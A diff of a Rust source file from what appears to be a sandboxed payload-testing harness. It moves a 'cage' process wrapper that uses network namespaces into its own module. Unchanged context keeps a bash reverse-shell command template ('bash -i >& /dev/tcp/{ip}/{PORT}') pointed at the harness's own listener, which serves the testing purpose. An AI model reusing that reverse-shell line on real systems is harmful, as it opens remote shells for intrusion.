@@ -3,12 +3,7 @@
 
 use std::collections::BTreeMap;
 use std::fs::{self, File};
-use std::io::{BufRead as _, BufReader};
-use std::os::fd::RawFd;
-use std::os::linux::fs::MetadataExt as _;
-use std::os::unix::process::CommandExt as _;
-use std::path::{Path, PathBuf};
-use std::process::{Child, Command, Stdio};
+use std::path::Path;
 
 use anyhow::{Context, Result, bail};
 
@@ -21,8 +16,7 @@ use super::listener::{HTTP_PORT, Listener, Mode, PORT, PORT2};
 use super::network::{Address, Network};
 use super::renamed::Renamed;
 use super::root::Root;
-use crate::exec;
-use crate::mount::check;
+use crate::cage::Cage;
 
 /// What stands for `{shell}` where the list has no opinion.
 const SHELL: &str = "/bin/bash";
@@ -61,8 +55,9 @@ pub(super) fn run(payload: &Payload, way: Way, root: &Root, scratch: &Path) -> R
     let script = format!("bash -c 'bash -i >& /dev/tcp/{ip}/{PORT} 0>&1'\n");
     let tls = scratch.join("tls");
     let listener = Listener::start(mode, payload.kind, &network, script, tls)?;
-    let mut cage = Cage::start(&spec, network.server().fd(), scratch)?;
-    let (namespace, kept) = cage.started()?;
+    let mut cage = Cage::start("payload-cage", &spec, network.server(), scratch)?;
+    cage.ready()?;
+    let (namespace, kept) = cage.namespace()?;
     let trace = payload.blind.then(|| cage.path(TRACE)).transpose()?;
     let outcome = conversation::converse(listener.heard(), trace.as_deref());
     drop(listener);
@@ -136,86 +131,4 @@ fn values(network: &Network, shell: String) -> Values {
     ]
     .map(|(name, value)| (name.to_owned(), value))
     .to_vec()
-}
-
-/// The process that keeps a cage; when it is gone, so is everything in it.
-struct Cage {
-    keeper: Child,
-    log: PathBuf,
-}
-
-impl Cage {
-    fn start(spec: &Spec, network: RawFd, scratch: &Path) -> Result<Self> {
-        let (file, log) = (scratch.join("cage.json"), scratch.join("cage.log"));
-        let text = serde_json::to_string(spec).context("a cage that cannot be written")?;
-        fs::write(&file, text).with_context(|| format!("cannot write {}", file.display()))?;
-        let errors =
-            File::create(&log).with_context(|| format!("cannot write {}", log.display()))?;
-        let program = std::env::current_exe().context("who are we?")?;
-        let mut command = Command::new(program);
-        command
-            .arg("payload-cage")
-            .arg(&file)
-            .stdin(Stdio::null())
-            .stdout(Stdio::piped())
-            .stderr(errors);
-        exec::end_with_us(&mut command);
-        // SAFETY: between fork and exec a single system call, without memory; the descriptor is
-        // open as long as the network lives, which is longer than this call.
-        unsafe {
-            command.pre_exec(move || check(libc::setns(network, libc::CLONE_NEWNET)));
-        }
-        let keeper = command.spawn().context("cannot start a cage")?;
-        Ok(Self { keeper, log })
-    }
-
-    /// Waits until the payload has been started. The process namespace of the cage.
-    fn started(&mut self) -> Result<(u64, File)> {
-        let out = self.keeper.stdout.take().context("no pipe from the cage")?;
-        let mut line = String::new();
-        BufReader::new(out)
-            .read_line(&mut line)
-            .context("cannot hear the cage")?;
-        if line.trim_end() != "started" {
-            bail!("{}", self.said());
-        }
-        let path = format!("/proc/{}/ns/pid_for_children", self.keeper.id());
-        let namespace = File::open(&path).with_context(|| format!("cannot open {path}"))?;
-        let number = namespace.metadata().context("no namespace")?.st_ino();
-        Ok((number, namespace))
-    }
-
-    /// A path in it as seen from outside.
-    fn path(&self, inside: &str) -> Result<PathBuf> {
-        let keeper = self.keeper.id();
-        let children = format!("/proc/{keeper}/task/{keeper}/children");
-        let first = fs::read_to_string(&children).with_context(|| format!("no {children}"))?;
-        let first = first.split_whitespace().next().context("an empty cage")?;
-        Ok(format!("/proc/{first}/root{inside}").into())
-    }
-
-    /// Ends it and all in it. The end of what was written in it.
-    fn end(mut self) -> String {
-        self.kill();
-        self.said()
-    }
-
-    fn kill(&mut self) {
-        let _ = self.keeper.kill();
-        let _ = self.keeper.wait();
-    }
-
-    fn said(&self) -> String {
-        const KEPT: usize = 400;
-        let text = fs::read(&self.log).unwrap_or_default();
-        let end = text.len().saturating_sub(KEPT);
-        let end = text.get(end..).unwrap_or_default();
-        String::from_utf8_lossy(end).trim().to_owned()
-    }
-}
-
-impl Drop for Cage {
-    fn drop(&mut self) {
-        self.kill();
-    }
 }
